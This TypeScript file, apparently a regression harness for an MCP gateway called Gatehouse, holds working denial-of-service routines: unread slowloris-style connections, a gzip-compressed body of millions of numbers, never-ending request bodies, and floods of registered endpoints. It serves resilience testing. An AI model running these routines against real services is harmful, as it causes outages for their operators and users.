import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { createClient, type GatehouseClient } from '../../src/client/client.ts';
import { API_KEY, API_SECRET, API_TOKEN } from '../credentials.ts';

export type Place = {
  /** Where the gateway is, and the servers of the attacker. */
  readonly gateway: string;
  readonly http: string;
  readonly resetting: string;
};

/** Does harm until the signal is aborted, with the credentials of one organization or none. */
export type Attack = (place: Place, signal: AbortSignal) => Promise<void>;

const clientOf = ({ gateway }: Place): GatehouseClient =>
  createClient({ baseUrl: gateway, apiToken: API_TOKEN, apiKey: API_KEY, apiSecret: API_SECRET });

/** Registers a server. Returns its account. */
async function register(client: GatehouseClient, url: string): Promise<string> {
  const { data, error } = await client.POST('/api/mcp-servers', {
    body: { name: 'Hostile', url, approval_policy: 'auto_approve_all' },
  });
  if (data === undefined) {
    throw new Error(`no server: ${JSON.stringify(error)}`);
  }
  return data.data.id.replace('mcp_', '');
}

async function mint(client: GatehouseClient, account: string): Promise<string | undefined> {
  const path = { integrated_account_id: account };
  const { data } = await client.POST('/integrated-account/{integrated_account_id}/mcp', {
    params: { path },
    body: { name: 'Hostile' },
  });
  return data?.url;
}

/** An endpoint over a new server; the server is deleted in the end, so that attacks can be repeated for long. */
async function withEndpoint(
  place: Place,
  path: string,
  work: (url: string, client: GatehouseClient, account: string) => Promise<void>,
): Promise<void> {
  const client = clientOf(place);
  const account = await register(client, path === 'resetting' ? place.resetting : place.http + path);
  try {
    await work((await mint(client, account)) as string, client, account);
  } finally {
    await client.DELETE('/api/mcp-servers/{mcpServerId}', { params: { path: { mcpServerId: `mcp_${account}` } } });
  }
}

/** Sends a message, and reads the answer to its end. What the answer is does not matter to an attacker. */
async function send(url: string, body: string | Buffer, signal: AbortSignal, headers = {}): Promise<void> {
  const answer = await fetch(url, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Accept: 'application/json, text/event-stream', ...headers },
    body: body as string,
    signal,
  }).catch(() => undefined);
  await answer?.arrayBuffer().catch(() => undefined);
}

const request = (method: string, params: object = {}): string =>
  JSON.stringify({ jsonrpc: '2.0', id: 1, method, params });

/** So many clients, each of which does the same again and again. */
const repeat = (clients: number, signal: AbortSignal, work: () => Promise<void>): Promise<unknown> =>
  Promise.all(
    Array.from({ length: clients }, async () => {
      while (!signal.aborted) {
        await work().catch(() => undefined);
        await delay(1);
      }
    }),
  );

/** Opens connections, writes something on each, and never reads. Connections that end are opened anew. */
async function neverRead(count: number, { gateway }: Place, text: string, signal: AbortSignal): Promise<void> {
  const { hostname, port } = new URL(gateway);
  const sockets = new Set<Socket>();
  while (!signal.aborted) {
    for (let missing = count - sockets.size; missing > 0; missing -= 1) {
      const socket = connect({ host: hostname, port: Number(port), allowHalfOpen: true });
      sockets.add(socket);
      socket.on('error', () => undefined);
      socket.once('close', () => sockets.delete(socket));
      socket.once('connect', () => socket.write(text));
      socket.pause();
    }
    await delay(200);
  }
  for (const socket of sockets) {
    socket.destroy();
  }
}

const SERVICE = {
  openapi: '3.1.0',
  info: { title: 'Hostile', version: '1' },
  paths: Object.fromEntries(
    ['large', 'numbers'].map((name) => [
      `/${name}`,
      {
        get: {
          operationId: name,
          responses: {
            200: { description: name, content: { 'application/json': { schema: { type: 'object' } } } },
          },
        },
      },
    ]),
  ),
};

/** An endpoint over an OpenAPI service; everything is deleted in the end. */
async function withService(
  place: Place,
  work: (url: string, tools: readonly string[]) => Promise<void>,
): Promise<void> {
  const client = clientOf(place);
  const { data: integration, error } = await client.POST('/integration', {
    body: { name: 'hostile', document: { ...SERVICE, servers: [{ url: `${place.http}/service` }] } },
  });
  if (integration === undefined) {
    throw new Error(`no integration: ${JSON.stringify(error)}`);
  }
  const { data: account } = await client.POST('/integrated-account', {
    body: { tenant_id: 'hostile', environment_integration_id: integration.id, authentication_method: 'none' },
  });
  const id = account?.id ?? '';
  try {
    const url = (await mint(client, id)) as string;
    const listed = await fetch(url, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: request('tools/list'),
    });
    const { result } = (await listed.json()) as { result: { tools: { name: string }[] } };
    await work(
      url,
      result.tools.map(({ name }) => name),
    );
  } finally {
    await client.DELETE('/integrated-account/{id}', { params: { path: { id } } });
    await client.DELETE('/integration/{id}', { params: { path: { id: integration.id } } });
  }
}

const callLarge = (url: string, tools: readonly string[], word: string): string => {
  const name = tools.find((one) => one.includes(word));
  return `POST ${new URL(url).pathname} HTTP/1.1\r\nHost: ${new URL(url).host}\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(request('tools/call', { name }))}\r\n\r\n${request('tools/call', { name })}`;
};

/** The attacks that were once successful, by what they attacked. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'answers that break off': (place, signal) =>
    withEndpoint(place, 'resetting', async (url) => {
      await repeat(8, signal, () => send(url, request('tools/list'), signal));
    }),
  'large lists at many endpoints': (place, signal) =>
    withEndpoint(place, '/large-list', async (_, client, account) => {
      await repeat(4, signal, async () => {
        const url = await mint(client, account);
        await send(url ?? '', request('tools/list'), signal);
      });
    }),
  'numbers in a request': (place, signal) =>
    withEndpoint(place, '/numbers', async (url) => {
      const ones = `{"jsonrpc":"2.0","id":1,"method":"tools/cal1", "params":{"a":[${'1,'.repeat(2_000_000)}1e0]}}`;
      const packed = gzipSync(ones);
      await repeat(10, signal, () => send(url, packed, signal, { 'Content-Encoding': 'gzip' }));
      await repeat(2, signal, () => send(url, ones, signal));
    }),
  'numbers in an answer': (place, signal) =>
    withEndpoint(place, '/numbers', async (url) => {
      await repeat(2, signal, () => send(url, request('tools/call', { name: 't' }), signal));
    }),
  'numbers of a service': (place, signal) =>
    withService(place, async (url, tools) => {
      const name = tools.find((one) => one.includes('numbers'));
      await repeat(2, signal, () => send(url, request('tools/call', { name }), signal));
    }),
  'connections of strangers': (place, signal) => neverRead(400, place, 'GET / HTTP/1.1\r\nhost: x', signal),
  'names that nobody knows': async (place, signal) => {
    const client = clientOf(place);
    const accounts: string[] = [];
    for (let index = 0; index < 24; index += 1) {
      accounts.push(await register(client, `http://s${index}.slow.test/mcp`));
    }
    try {
      await Promise.all(
        accounts.map(async (account) => {
          const url = await mint(client, account);
          await repeat(1, signal, () => send(url ?? '', request('tools/list'), signal));
        }),
      );
    } finally {
      for (const account of accounts) {
        await client.DELETE('/api/mcp-servers/{mcpServerId}', { params: { path: { mcpServerId: `mcp_${account}` } } });
      }
    }
  },
  'a list that always changes': (place, signal) =>
    withEndpoint(place, '/changing-list', async (url) => {
      await repeat(1, signal, async () => {
        await send(url, request('tools/list'), signal);
        await delay(500);
      });
    }),
  'answers that nobody reads': (place, signal) =>
    withService(place, async (url, tools) => neverRead(60, place, callLarge(url, tools, 'large'), signal)),
  'bodies that never end': (place, signal) =>
    withEndpoint(place, '/numbers', async (url) => {
      const { pathname } = new URL(url);
      const head = `POST ${pathname} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4194304\r\n\r\n`;
      await neverRead(100, place, head + ' '.repeat(4_194_303), signal);
    }),
  'pages that nobody reads': (place, signal) =>
    neverRead(100, place, 'GET /docs HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(3), signal),
};
